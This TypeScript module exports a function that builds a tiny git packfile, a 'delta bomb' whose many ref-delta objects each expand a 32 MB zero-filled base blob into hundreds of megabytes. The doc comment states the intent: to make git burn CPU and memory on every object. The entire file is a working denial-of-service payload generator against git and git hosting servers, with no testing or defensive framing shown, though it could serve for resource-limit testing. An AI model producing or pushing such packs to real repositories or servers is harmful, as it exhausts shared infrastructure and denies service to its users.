import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const MIB = 1024 * 1024;
const BASE_BYTES = 32 * MIB;
const MAX_COPY_BYTES = 0xffffff;

/**
 * A pack of some kilobytes whose objects are so many deltas, each of which makes 256 MB of the same 32 MB: git takes about
 * half a second of a processor for each. With more `copiesOfBase` each makes as many times 32 MB, which git holds in memory as a
 * whole. Source: gitformat-pack(5).
 */
export function deltaBomb(deltas: number, copiesOfBase = 8): Buffer {
  const base = Buffer.alloc(BASE_BYTES);
  const name = createHash('sha1').update(`blob ${base.length}\0`).update(base).digest();
  const objects = [Buffer.concat([objectHeader(3, base.length), deflateSync(base)])];
  const copies: Buffer[] = [];
  for (let copy = 0; copy < copiesOfBase; copy++) {
    for (let at = 0; at < BASE_BYTES; at += MAX_COPY_BYTES)
      copies.push(copyOf(at, Math.min(MAX_COPY_BYTES, BASE_BYTES - at)));
  }
  for (let i = 0; i < deltas; i++) {
    const own = Buffer.from(String(i).padStart(8, '0'));
    const sizes = [size(BASE_BYTES), size(copiesOfBase * BASE_BYTES + own.length)];
    const delta = Buffer.concat([...sizes, ...copies, Buffer.of(own.length), own]);
    objects.push(Buffer.concat([objectHeader(7, delta.length), name, deflateSync(delta)]));
  }
  const head = Buffer.alloc(12);
  head.write('PACK');
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(objects.length, 8);
  const pack = Buffer.concat([head, ...objects]);
  return Buffer.concat([pack, createHash('sha1').update(pack).digest()]);
}

/** Copies so many bytes of the base from there: all four bytes of the place, and three of the length. */
function copyOf(at: number, length: number): Buffer {
  const bytes = Buffer.alloc(8);
  bytes[0] = 0xff;
  bytes.writeUInt32LE(at, 1);
  bytes.writeUIntLE(length, 5, 3);
  return bytes;
}

function size(value: number): Buffer {
  const bytes: number[] = [];
  for (let left = value; ; left = Math.floor(left / 128)) {
    bytes.push((left % 128) + (left >= 128 ? 128 : 0));
    if (left < 128) return Buffer.from(bytes);
  }
}

function objectHeader(kind: number, bytes: number): Buffer {
  const rest = Math.floor(bytes / 16);
  const first = kind * 16 + (bytes % 16);
  return rest === 0 ? Buffer.of(first) : Buffer.concat([Buffer.of(first + 128), size(rest)]);
}
